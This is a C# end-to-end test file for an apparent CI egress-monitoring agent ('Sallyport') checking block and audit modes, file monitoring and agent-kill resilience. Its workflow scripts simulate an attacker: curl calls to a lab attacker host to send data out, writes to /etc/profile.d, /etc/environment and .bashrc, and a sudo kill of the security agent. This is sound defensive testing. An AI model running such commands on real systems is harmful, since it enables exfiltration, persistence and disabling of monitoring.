@@ -1,0 +1,139 @@
+using System.Text.Json;
+using Sallyport.EndToEnd.Tests.Machine;
+using Sallyport.Lab;
+
+namespace Sallyport.EndToEnd.Tests;
+
+/// <summary>The Action where less is protected than could be: because it was asked to, or because the machine cannot. It says so.</summary>
+public sealed class ActionLimitsTests(MachineFixture fixture) : IClassFixture<MachineFixture>
+{
+    private const string Attacker = $"curl -sS --max-time 5 http://{LabAddresses.Attacker}";
+
+    private static string Workflow(string inputs, string script) => $"""
+        name: Limits
+        on: push
+        jobs:
+          build:
+            runs-on: ubuntu-24.04
+            steps:
+              - name: Harden Runner
+                uses: step-security/harden-runner@rc
+                with:
+                  {inputs.ReplaceLineEndings("\n          ")}
+              - name: Call out
+                id: call
+                run: |
+                  {script.ReplaceLineEndings("\n          ")}
+        """;
+
+    [Theory]
+    [InlineData("block", "failure", "error")]
+    [InlineData("audit", "success", "warning")]
+    public async Task Where_the_kernel_cannot_enforce_block_fails_and_audit_warns(string mode, string conclusion, string level)
+    {
+        // A folder that is no cgroup: programs cannot be attached there, as in the test of `run`.
+        await fixture.Machine.ConfigureAsync("agent.yml", $"version: 1\ncgroupRoot: {RunnerMachine.Work}");
+        try
+        {
+            WorkflowRun run = await RunAsync(Workflow($"egress-policy: {mode}", $"{Attacker}/out || true"));
+            Assert.True(run.ConclusionOf() == conclusion, run.ToString());
+            JsonElement pre = run.Step("Pre Harden Runner");
+            Assert.Equal(conclusion, pre.GetProperty("conclusion").GetString());
+            JsonElement said = Assert.Single(
+                pre.GetProperty("annotations").EnumerateArray(), one => one.GetProperty("title").GetString() == "This job is not protected");
+            Assert.Equal(level, said.GetProperty("level").GetString());
+            Assert.EndsWith("[cannot-enforce]", said.GetProperty("message").GetString(), StringComparison.Ordinal);
+            Assert.True(run.Traffic.Contains("/out ") == (mode == "audit"), run.ToString());
+            Assert.Contains(
+                "This job ran without protection", run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
+            Assert.Empty(run.Reports);
+        }
+        finally
+        {
+            await fixture.Machine.ConfigureOnDemandAsync();
+        }
+    }
+
+    [Theory]
+    [InlineData("", "allowed", true)]
+    [InlineData("implicit: false\ndisable-file-monitoring: true", "refused", false)]
+    public async Task What_is_implicit_and_files_are_left_out_where_the_inputs_say_so(string inputs, string verdict, bool isWatched)
+    {
+        const string Script = $"""
+            echo changed > /etc/profile.d/left.sh 2> /dev/null || sudo -n sh -c 'echo changed > /etc/environment'
+            echo x > "$HOME/.bashrc"
+            curl -sS -o /dev/null --max-time 5 https://github.com/ || echo "curl says $?"
+            curl -sS --max-time 5 http://v4.test/allowed
+            {Attacker}/out || true
+            """;
+        WorkflowRun run = await RunAsync(Workflow($"egress-policy: block\nallowed-endpoints: v4.test:80\n{inputs}", Script));
+        Assert.True(run.ConclusionOf() == "success", run.ToString());
+        Assert.True(run.Traffic.Contains("/allowed ") && !run.Traffic.Contains("/out "), run.ToString());
+        JobReport report = run.Report;
+        Assert.Equal([verdict], report.Names.Where(row => JobReport.Text(row, "name") == "github.com" && JobReport.Text(row, "step") == "call")
+            .Select(row => JobReport.Text(row, "verdict")).Distinct());
+        bool isImplicit = verdict == "allowed";
+        Assert.Equal(isImplicit, run.Traffic.Conversations.Any(one => one.ServerName == "github.com"));
+        string summary = run.Step("Post Harden Runner").GetProperty("summary").GetString()!;
+        Assert.Equal(!isImplicit, summary.Contains("nothing is implicit", StringComparison.Ordinal));
+        Assert.Equal(isImplicit, summary.Contains("@github-actions", StringComparison.Ordinal));
+
+        string files = report.Document.GetProperty("coverage").GetProperty("files").GetString()!;
+        Assert.Equal(isWatched, files != "notObserved");
+        Assert.Equal(isWatched, report.Document.GetProperty("files").GetArrayLength() > 0);
+        Assert.Equal(!isWatched, summary.Contains("not observed: files", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task Killed_by_the_job_it_leaves_no_way_out_and_the_report_says_so()
+    {
+        // The job is root by sudo, and knows the number from the agent's own state.
+        const string Script = $$"""
+            pid=$(sudo -n sh -c "sed -n 's/.*\"agentPid\": *\([0-9]*\).*/\1/p' /run/sallyport/jobs/*.json")
+            cat /proc/$pid/oom_score_adj > "$SIGNS/agent-goes"
+            cat /proc/self/oom_score_adj > "$SIGNS/step-goes"
+            {{Attacker}}/before || true
+            sleep 2 # for the frame to be sealed: what is not is lost with the agent
+            sudo -n kill -KILL $pid
+            {{Attacker}}/at-once || true
+            until sudo -n "$AGENT" job status | grep -q enforcing; do {{Attacker}}/between || true; done
+            {{Attacker}}/after || true
+            curl -sS --max-time 5 http://v4.test/allowed
+            """;
+        using StartedRun started = Start(Workflow("egress-policy: block\nallowed-endpoints: v4.test:80\nfail-on: new", Script));
+        WorkflowRun run = await started.EndAsync();
+        Assert.Equal(0, run.Traffic.ConnectionsTo(LabAddresses.Attacker));
+        Assert.True(run.Traffic.Contains("/allowed "), run.ToString());
+        JobReport last = run.Reports[^1];
+        Assert.Equal("enforcing", last.InForce);
+        Assert.False(last.IsComplete, run.ToString());
+        Assert.True(last.Verdicts("call", LabAddresses.Attacker) is ["refused"], run.ToString());
+        string summary = run.Step("Post Harden Runner").GetProperty("summary").GetString()!;
+        Assert.Contains("**incomplete**", summary, StringComparison.Ordinal);
+        Assert.Contains("observation-gap", summary, StringComparison.Ordinal);
+
+        // Where the first part is, and that nobody can say from the second alone that nothing was refused.
+        JsonElement lost = Assert.Single(last.Findings, finding => JobReport.Text(finding, "id") == "observation-lost");
+        Assert.Equal($"/var/lib/sallyport/jobs/{run.Reports[0].Id}/report.json", lost.GetProperty("evidence").GetProperty("report").GetString());
+        Assert.Equal(["refused"], run.Reports[0].Verdicts("call", LabAddresses.Attacker));
+        Assert.Equal("failure", run.Step("Post Harden Runner").GetProperty("conclusion").GetString());
+        Assert.Contains("the agent was killed", run.TextOf("Post Harden Runner"), StringComparison.Ordinal);
+
+        // Steps are marked to go first when memory runs out, and the agent, started by one, is not.
+        Assert.Contains(
+            (await File.ReadAllTextAsync(Path.Combine(started.Folder, "agent-goes"), CancellationToken.None)).Trim(), (string[])["-900", "0"]);
+        Assert.Equal("500", (await File.ReadAllTextAsync(Path.Combine(started.Folder, "step-goes"), CancellationToken.None)).Trim());
+    }
+
+    private async Task<WorkflowRun> RunAsync(string workflow)
+    {
+        using StartedRun run = Start(workflow);
+        return await run.EndAsync();
+    }
+
+    private StartedRun Start(string workflow)
+    {
+        fixture.Machine.Network.World.Clear();
+        return fixture.Machine.Start(workflow, "--user", RunnerMachine.User);
+    }
+}
